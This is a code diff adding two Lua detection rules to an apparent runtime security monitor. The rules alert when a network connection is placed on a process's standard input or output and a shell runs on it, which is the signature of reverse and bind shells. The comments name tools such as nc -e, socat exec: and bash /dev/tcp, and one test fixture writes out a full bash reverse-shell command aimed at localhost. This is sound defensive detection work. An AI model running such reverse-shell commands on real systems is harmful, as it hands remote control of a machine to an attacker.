@@ -324,6 +324,173 @@ rule {
   },
 }
 
+-- ------------------------------------------------------------ stdio on a connection
+-- The effect every reverse and bind shell has, whatever built it: a TCP or
+-- UDP connection duplicated onto standard input, output or error (the kernel's
+-- network.stdio_socket: dup2, dup3, fcntl F_DUPFD onto fd 0-2), then a shell
+-- or an interpreter run with it (process.exec's stdin_socket/stdout_socket).
+-- bash >& /dev/tcp, nc -e, ncat --sh-exec, socat exec:, python os.dup2,
+-- perl open(STDIN, "<&"), a bind shell's accepted connection alike.
+-- inetd-style supervisors (STDIO_SOCKET_SUPERVISORS, rules/lib/lists.lua)
+-- do it by design; extend the list with append().
+
+local function inet_peer(e)
+  -- a listening socket on stdio (inetd "wait" services) has no peer
+  return (e.family == 2 or e.family == 10) and e.dport ~= nil and e.dport ~= 0
+end
+
+local function supervised(e)
+  -- the supervisor's forked child still has its name until it execs; a
+  -- systemd child is named "(unit)" until then
+  local c = e.comm
+  if STDIO_SOCKET_SUPERVISORS[c] or (c ~= nil and c:sub(1, 1) == "(") then return true end
+  local p = e.parent
+  return p ~= nil and STDIO_SOCKET_SUPERVISORS[p.comm] == true
+end
+
+local function shell_or_interpreter(name)
+  if name == nil then return false end
+  return SHELLS[name] or INTERPRETERS[name] or INTERPRETERS[name:match("^(%a+)") or ""] or false
+end
+
+rule {
+  name = "network_connection_on_standard_io",
+  desc = "A process put a TCP or UDP connection on its standard input, output or error "
+      .. "(dup2/dup3/fcntl of a connected socket onto fd 0-2): what a reverse or bind shell "
+      .. "does before the shell runs, whatever tool or language does it",
+  events = { "network.stdio_socket" },
+  match = { family = { 2, 10 } },
+  severity = "error",
+  importance = 0.9,
+  tags = { "mitre:T1059.004", "mitre:T1071", "mitre:T1095" },
+  -- one alert per process (it usually does fd 0, 1 and 2)
+  state = { seen = tapio.map { ttl = "10m" } },
+  when = function(e, s)
+    if not inet_peer(e) or supervised(e) or s.seen:get(e) then return false end
+    s.seen:set(e, true)
+    return true
+  end,
+  output = "${comm} (pid ${pid}, exe ${exe|'?'}, uid ${uid}, parent ${parent.comm|'?'}[${ppid}]) "
+        .. "put its connection ${saddr}:${sport} -> ${daddr}:${dport} on fd ${newfd} "
+        .. "(${syscall_str}); container ${container.id|'host'}, pod "
+        .. "${k8s.namespace|'-'}/${k8s.pod|'-'}; command: ${argv|'?'}",
+  tests = {
+    { event = { type = "network.stdio_socket", comm = "bash", exe = "/usr/bin/bash", pid = 70,
+                ppid = 69, parent = { comm = "bash" }, newfd = 1, fd = 3, family = 2,
+                protocol = 6, saddr = "127.0.0.1", sport = 50000, daddr = "127.0.0.1",
+                dport = 4444, syscall = "dup2", argv = { "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1" } },
+      expect = true,
+      output = "bash (pid 70, exe /usr/bin/bash, uid 0, parent bash[69]) put its connection "
+            .. "127.0.0.1:50000 -> 127.0.0.1:4444 on fd 1 (dup2); container host, pod -/-; "
+            .. "command: bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1" },
+    -- fd 0, 1, 2 of one process: one alert
+    { events = { { type = "network.stdio_socket", comm = "nc", pid = 71, newfd = 0, family = 2,
+                   daddr = "10.0.0.1", dport = 4444 },
+                 { type = "network.stdio_socket", comm = "nc", pid = 71, newfd = 1, family = 2,
+                   daddr = "10.0.0.1", dport = 4444 } }, expect = 1 },
+    { event = { type = "network.stdio_socket", comm = "python3", newfd = 0, family = 10,
+                daddr = "::1", dport = 9001 }, expect = true },
+    -- a unix socket (sshd's socketpairs, the journal), a listening socket, a supervisor
+    { event = { type = "network.stdio_socket", comm = "sshd", newfd = 0, family = 1,
+                unix_path = "" }, expect = false },
+    { event = { type = "network.stdio_socket", comm = "sshd", newfd = 0, family = 2,
+                saddr = "0.0.0.0", sport = 22, dport = 0 }, expect = false },
+    { event = { type = "network.stdio_socket", comm = "(echo)", newfd = 0, family = 2,
+                daddr = "10.0.0.1", dport = 40000, parent = { comm = "systemd" } }, expect = false },
+    { event = { type = "network.stdio_socket", comm = "xinetd", newfd = 1, family = 2,
+                daddr = "10.0.0.1", dport = 40000 }, expect = false },
+  },
+}
+
+rule {
+  name = "shell_started_on_network_connection",
+  desc = "A shell or an interpreter started with a TCP or UDP connection as its standard "
+      .. "input or output, or on a socket pair that a program holding a fresh connection "
+      .. "relays (socat exec:, ncat -e): a reverse or bind shell (nc -e, bash >& /dev/tcp, "
+      .. "a script that dup2s a socket and runs sh), whatever spawned it",
+  events = { "network.stdio_socket", "network.connect", "network.accept", "process.exec" },
+  match = { ["network.stdio_socket"] = { family = { 2, 10 } },
+            ["network.connect"] = { family = { 2, 10 }, protocol = 6 },
+            ["network.accept"] = { family = { 2, 10 }, protocol = 6 },
+            ["process.exec"] = { ret = 0 } },
+  severity = "critical",
+  importance = 0.95,
+  tags = { "mitre:T1059.004", "mitre:T1071", "mitre:T1095" },
+  -- wired: processes that put a connection on their stdio, for the shell
+  -- they run or fork (the socket is inherited); relay: processes that just
+  -- opened or accepted a TCP connection, for a child on a socket pair
+  state = { wired = tapio.map { ttl = "10m" }, relay = tapio.map { ttl = "60s" } },
+  when = function(e, s)
+    local t = e.type
+    if t == "network.stdio_socket" then
+      if inet_peer(e) and not supervised(e) then s.wired:set(e, true) end
+      return false
+    elseif t ~= "process.exec" then
+      -- EINPROGRESS (-115): a non-blocking connect on its way
+      if e.dport ~= 0 and (e.ret >= 0 or e.ret == -115) then s.relay:set(e, true) end
+      return false
+    end
+    local sin, sout = e.stdin_socket, e.stdout_socket
+    if not (sin or sout) then return false end
+    if not shell_or_interpreter(basename(e.filename)) or supervised(e) then return false end
+    local parent = tapio.process(e.ppid)
+    if s.wired:get(e) or s.wired:get(parent) then return true end
+    return sin and sout and s.relay:get(parent) == true
+  end,
+  output = "${filename} (${argv}) started with a network connection on its standard "
+        .. "input/output (stdin socket: ${stdin_socket}, stdout socket: ${stdout_socket}); "
+        .. "pid ${pid}, uid ${uid}, was ${old_comm|comm}, parent ${parent.comm|'?'}[${ppid}] "
+        .. "(exe ${parent.exe|'?'}), tty ${tty|'none'}, container ${container.id|'host'}, "
+        .. "pod ${k8s.namespace|'-'}/${k8s.pod|'-'}",
+  tests = {
+    -- nc -e /bin/sh: nc wires the connection, then becomes sh
+    { events = { { type = "network.stdio_socket", comm = "nc", pid = 80, newfd = 0, family = 2,
+                   daddr = "127.0.0.1", dport = 4444 },
+                 { type = "process.exec", comm = "sh", pid = 80, filename = "/bin/sh",
+                   argv = { "/bin/sh" }, stdin_socket = true, stdout_socket = true,
+                   old_comm = "nc" } },
+      expect = 2,
+      output = "/bin/sh (/bin/sh) started with a network connection on its standard "
+            .. "input/output (stdin socket: true, stdout socket: true); pid 80, uid 0, was nc, "
+            .. "parent ?[1] (exe ?), tty none, container host, pod -/-" },
+    -- python dup2s in itself, then forks sh -i
+    { events = { { type = "network.stdio_socket", comm = "python3", pid = 81, newfd = 1,
+                   family = 2, daddr = "10.0.0.1", dport = 443 },
+                 { type = "process.exec", comm = "sh", pid = 82, ppid = 81, filename = "/bin/sh",
+                   argv = { "/bin/sh", "-i" }, stdin_socket = true, stdout_socket = true } },
+      expect = 2 },
+    { events = { { type = "network.stdio_socket", comm = "socat", pid = 83, newfd = 0,
+                   family = 10, daddr = "::1", dport = 4444 },
+                 { type = "process.exec", comm = "perl", pid = 83, filename = "/usr/bin/perl",
+                   argv = { "perl" }, stdout_socket = true } }, expect = 2 },
+    -- socat TCP:... EXEC:sh: socat connects and relays over a socket pair
+    { events = { { type = "network.connect", comm = "socat", pid = 87, family = 2, protocol = 6,
+                   daddr = "127.0.0.1", dport = 4444 },
+                 { type = "process.exec", comm = "sh", pid = 88, ppid = 87, filename = "/bin/sh",
+                   argv = { "sh", "-i" }, stdin_socket = true, stdout_socket = true } },
+      expect = 2 },
+    -- a shell with a unix socket on stdio (no connection seen): not this rule
+    { event = { type = "process.exec", comm = "bash", pid = 84, filename = "/bin/bash",
+                argv = { "bash" }, stdin_socket = true, stdout_socket = true }, expect = false },
+    -- a program that connected runs a shell on pipes
+    { events = { { type = "network.connect", comm = "make", pid = 89, family = 2, protocol = 6,
+                   daddr = "10.0.0.1", dport = 443 },
+                 { type = "process.exec", comm = "sh", pid = 90, ppid = 89, filename = "/bin/sh",
+                   argv = { "sh", "-c", "cc x.c" } } }, expect = false },
+    -- the wired process runs something that is no shell
+    { events = { { type = "network.stdio_socket", comm = "nc", pid = 85, newfd = 0, family = 2,
+                   daddr = "127.0.0.1", dport = 4444 },
+                 { type = "process.exec", comm = "cat", pid = 85, filename = "/bin/cat",
+                   argv = { "cat" }, stdin_socket = true } }, expect = false },
+    -- an inetd service's script
+    { events = { { type = "network.stdio_socket", comm = "xinetd", pid = 86, newfd = 0,
+                   family = 2, daddr = "10.0.0.1", dport = 4444 },
+                 { type = "process.exec", comm = "sh", pid = 86, filename = "/bin/sh",
+                   argv = { "/bin/sh", "/usr/local/lib/svc.sh" }, stdin_socket = true,
+                   parent = { comm = "xinetd" } } }, expect = false },
+  },
+}
+
 local WEB_AND_DB_SERVERS = tapio.set {
   "nginx", "httpd", "apache2", "apache", "lighttpd", "caddy", "php-fpm", "php-cgi", "php-fpm8.2",
   "uwsgi", "tomcat", "catalina", "jetty", "traefik", "haproxy", "envoy", "openresty",
